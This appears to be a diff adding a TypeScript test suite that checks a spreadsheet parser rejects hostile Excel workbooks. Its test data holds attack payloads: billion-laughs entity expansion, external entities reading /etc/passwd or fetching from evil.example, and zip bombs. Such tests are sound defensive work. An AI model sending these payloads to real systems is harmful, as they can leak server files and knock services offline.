@@ -1,0 +1,214 @@
+import { contentTypes, plainRows, rawWorkbook, sharedTexts, sheet, workbookWith } from '../testing/raw-workbooks.ts'
+import { type Hostile, testHostile } from '../testing/trials.ts'
+
+const good = rawWorkbook()
+const texts = 'xl/sharedStrings.xml'
+const first = 'xl/worksheets/sheet1.xml'
+const part = (name: string, content: string | Buffer = '<x/>') => rawWorkbook({ [name]: content })
+const doctype = (inner: string) => `<!DOCTYPE x [${inner}]>`
+const laughs = doctype(
+  Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at} "${at ? `&l${at - 1};`.repeat(10) : 'lol'}">`).join(''),
+)
+const cell = (place: string, value = '1') => `<c r="${place}"><v>${value}</v></c>`
+const body = (text: string) => rawWorkbook({ [first]: text })
+const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le')
+const noise = (length: number) => Array.from({ length }, (_, at) => `t${(at * 7919) % 1_000_003}`)
+
+const entities: Hostile[] = [
+  [
+    'a billion laughs in the sheet',
+    'excel',
+    () => workbookWith('<row r="1"><c t="str"><v>&l11;</v></c></row>', '', laughs),
+    'workbookDoctype',
+  ],
+  [
+    'a billion laughs in the texts',
+    'excel',
+    () => rawWorkbook({ [texts]: `${laughs}<sst><si><t>&l11;</t></si></sst>` }),
+    'workbookDoctype',
+  ],
+  [
+    'an outside entity',
+    'excel',
+    () => workbookWith(plainRows, '', doctype('<!ENTITY x SYSTEM "file:///etc/passwd">')),
+    'workbookDoctype',
+  ],
+  [
+    'an outside entity in the content types',
+    'excel',
+    () =>
+      rawWorkbook({ '[Content_Types].xml': `${doctype('<!ENTITY x SYSTEM "http://evil.example">')}${contentTypes()}` }),
+    'workbookDoctype',
+  ],
+  [
+    'an outside entity in the relations',
+    'excel',
+    () => rawWorkbook({ '_rels/.rels': `${doctype('<!ENTITY % x SYSTEM "http://e.example">%x;')}<Relationships/>` }),
+    'workbookDoctype',
+  ],
+  [
+    'an outside entity in a drawing',
+    'excel',
+    () => part('xl/drawings/vmlDrawing1.vml', doctype('<!ENTITY x "y">')),
+    'workbookDoctype',
+  ],
+  ['a document type in small letters', 'excel', () => body(`<!doctype x>${sheet(plainRows)}`), 'workbookDoctype'],
+  [
+    'a document type far behind',
+    'excel',
+    () => body(`${' '.repeat(600_000)}<!DOCTYPE x>${sheet(plainRows)}`),
+    ['workbookDoctype', 'workbookTooComplex'],
+  ],
+  [
+    'a document type in UTF-16',
+    'excel',
+    () => rawWorkbook({ [first]: utf16(`<!DOCTYPE x>${sheet(plainRows)}`) }),
+    'workbookDamaged',
+  ],
+  ['a sheet in UTF-7', 'excel', () => body(sheet(plainRows).replace('UTF-8', 'UTF-7')), 'workbookDamaged'],
+  ['an unknown entity', 'excel', () => workbookWith('<row r="1"><c t="str"><v>&x;</v></c></row>'), 'workbookDamaged'],
+  [
+    'a character that is none',
+    'excel',
+    () => workbookWith('<row r="1"><c t="str"><v>&#x110000;</v></c></row>'),
+    'workbookDamaged',
+  ],
+  ['tags that do not match', 'excel', () => workbookWith('<row r="1"></c></row>'), 'workbookDamaged'],
+  ['a sheet that ends early', 'excel', () => body(sheet(plainRows).slice(0, -20)), 'workbookDamaged'],
+  ['two roots', 'excel', () => body(`${sheet(plainRows)}<worksheet/>`), 'workbookDamaged'],
+  ['no XML', 'excel', () => body('a,b\n1,2\n'), 'workbookDamaged'],
+  ['NUL in a sheet', 'excel', () => workbookWith('<row r="1"><c t="str"><v>\0</v></c></row>'), 'workbookDamaged'],
+  [
+    'bytes that are no UTF-8',
+    'excel',
+    () => rawWorkbook({ [first]: Buffer.from('3c613eff3c2f613e', 'hex') }),
+    'workbookDamaged',
+  ],
+  ['100,000 tags within each other', 'excel', () => workbookWith('<a>'.repeat(100_000)), 'workbookTooComplex'],
+  ['a tag of 3 MB', 'excel', () => workbookWith(`<row r="1" x="${'y'.repeat(3_000_000)}"/>`), ['workbookTooComplex']],
+  ['a comment of 3 MB', 'excel', () => workbookWith(`<!--${noise(400_000).join('')}-->`), 'workbookTooComplex'],
+]
+
+const floods: Hostile[] = [
+  [
+    'a flood of texts that none shows',
+    'excel',
+    () => rawWorkbook({ [texts]: sharedTexts(['a', 'b', ...noise(400_000)]) }),
+    'workbookUnusedTexts',
+  ],
+  [
+    '3,000,000 texts packed small',
+    'excel',
+    () => rawWorkbook({ [texts]: sharedTexts(Array.from({ length: 3_000_000 }, () => 'x')) }),
+    ['zipRatio', 'workbookUnusedTexts'],
+  ],
+  [
+    'a flood of empty texts',
+    'excel',
+    () => rawWorkbook({ [texts]: sharedTexts(Array.from({ length: 300_000 }, () => '')) }),
+    ['workbookTooComplex', 'zipRatio'],
+  ],
+  [
+    'a text of 1 MB',
+    'excel',
+    () => rawWorkbook({ [texts]: sharedTexts(['a', noise(200_000).join('')]) }),
+    'workbookTooComplex',
+  ],
+  [
+    'a cell of 100,000 characters',
+    'excel',
+    () => workbookWith(`<row r="1"><c r="A1" t="str"><v>${'x'.repeat(100_000)}</v></c></row>`),
+    'cellTooLong',
+  ],
+  [
+    'a text that is not there',
+    'excel',
+    () => workbookWith('<row r="1"><c r="A1" t="s"><v>99</v></c></row>'),
+    'workbookDamaged',
+  ],
+  [
+    'a text before the first',
+    'excel',
+    () => workbookWith('<row r="1"><c r="A1" t="s"><v>-1</v></c></row>'),
+    'workbookDamaged',
+  ],
+  [
+    'a merged range of a million cells',
+    'excel',
+    () => workbookWith(plainRows, '<mergeCells><mergeCell ref="A3:ALL1000"/></mergeCells>'),
+    'workbookMergedCells',
+  ],
+  [
+    'a merged range of the whole sheet',
+    'excel',
+    () => workbookWith(plainRows, '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
+    'workbookMergedCells',
+  ],
+  [
+    'a merged range backwards',
+    'excel',
+    () => workbookWith(plainRows, '<mergeCells><mergeCell ref="XFD1048576:A1"/></mergeCells>'),
+    'workbookMergedCells',
+  ],
+  [
+    '20,000 merged ranges',
+    'excel',
+    () =>
+      workbookWith(
+        plainRows,
+        `<mergeCells>${noise(20_000)
+          .map((_, at) => `<mergeCell ref="A${at + 9}:A${at + 9}"/>`)
+          .join('')}</mergeCells>`,
+      ),
+    'workbookMergedCells',
+  ],
+  ['16,384 columns', 'excel', () => workbookWith(`<row r="1">${cell('A1')}${cell('XFD1')}</row>`), 'tooManyColumns'],
+  [
+    'a million columns',
+    'excel',
+    () =>
+      workbookWith(
+        `<row r="1">${noise(1_000_000)
+          .map(text => `<c><v>${text.slice(1)}</v></c>`)
+          .join('')}</row>`,
+      ),
+    'tooManyColumns',
+  ],
+  ['a column beyond every sheet', 'excel', () => workbookWith(`<row r="1">${cell('ZZZZ1')}</row>`), 'workbookDamaged'],
+  [
+    'row 1,048,577',
+    'excel',
+    () => workbookWith(`<row r="1">${cell('A1')}</row><row r="1048577">${cell('A1048577')}</row>`),
+    'tooManyRecords',
+  ],
+  ['row 1e300', 'excel', () => workbookWith('<row r="1e300"/>'), 'tooManyRecords'],
+  ['a row before the first', 'excel', () => workbookWith('<row r="-1"/>'), 'workbookDamaged'],
+  [
+    'the same row twice',
+    'excel',
+    () => workbookWith(`<row r="1">${cell('A1')}</row><row r="1">${cell('A1')}</row>`),
+    'workbookDamaged',
+  ],
+  ['cells out of order', 'excel', () => workbookWith(`<row r="1">${cell('B1')}${cell('A1')}</row>`), 'workbookDamaged'],
+  ['a cell of another row', 'excel', () => workbookWith(`<row r="1">${cell('A7')}</row>`), 'workbookDamaged'],
+  [
+    'two million styles',
+    'excel',
+    () =>
+      part(
+        'xl/styles.xml',
+        `<styleSheet><cellXfs>${noise(2_000_000)
+          .map(text => `<xf a="${text}"/>`)
+          .join('')}</cellXfs></styleSheet>`,
+      ),
+    'workbookTooComplex',
+  ],
+  [
+    'a hidden second sheet that holds a bomb',
+    'excel',
+    () => part('xl/worksheets/sheet9.xml', Buffer.alloc(80_000_000, '<a/>')),
+    ['zipRatio', 'zipTooLarge'],
+  ],
+]
+
+await testHostile([...entities, ...floods], () => ({ excel: good }))
